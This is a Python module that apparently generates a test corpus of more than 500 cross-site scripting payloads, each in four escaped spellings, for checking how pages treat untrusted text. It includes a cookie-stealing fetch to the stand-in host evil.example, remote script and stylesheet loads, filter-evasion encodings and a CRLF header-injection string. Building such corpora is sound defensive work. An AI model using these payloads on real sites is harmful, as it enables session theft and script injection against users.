"""Texts that would do something if a page took them for markup, script, style or an address."""

import html
import json
from itertools import product
from urllib.parse import quote

_CALLS = ("alert(1)", "fetch('//evil.example/'+document.cookie)", "window.blocked.push('ran')")

_MARKUP = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script src=//evil.example/x.js></script><!--{}-->",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<img src=//evil.example/x.png alt={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<body onload={}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<link rel=stylesheet href=//evil.example/x.css><!--{}-->",
    "<style>@import '//evil.example/x.css';/*{}*/</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example/><!--{}-->",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<textarea></textarea><script>{}</script>",
    "<title></title><script>{}</script>",
    "<table background=//evil.example/x><!--{}-->",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><script>{}</script>",
    '" onmouseover="{}',
    "' onmouseover='{}",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "`-{}-`",
    "${{{}}}",
    "{{{{{}}}}}",
    "{{% set x = {} %}}",
    "javascript:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "%3Cscript%3E{}%3C/script%3E",
    "\x1b]8;;javascript:{}\x07x\x1b]8;;\x07",
    "\x1b[31m<script>{}</script>\x1b[0m",
    "\u202e<script>{}</script>\u202c",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "\r\nSet-Cookie: x=1\r\n\r\n<script>{}</script>",
)

PAYLOADS = tuple(
    dict.fromkeys(
        spelled
        for markup, call in product(_MARKUP, _CALLS)
        for text in (markup.format(call),)
        for spelled in (
            text,
            html.escape(text, quote=True),
            quote(text),
            json.dumps(text),
        )
    )
)
"""More than 500, each in four spellings: as it is, and as another layer might have escaped it."""
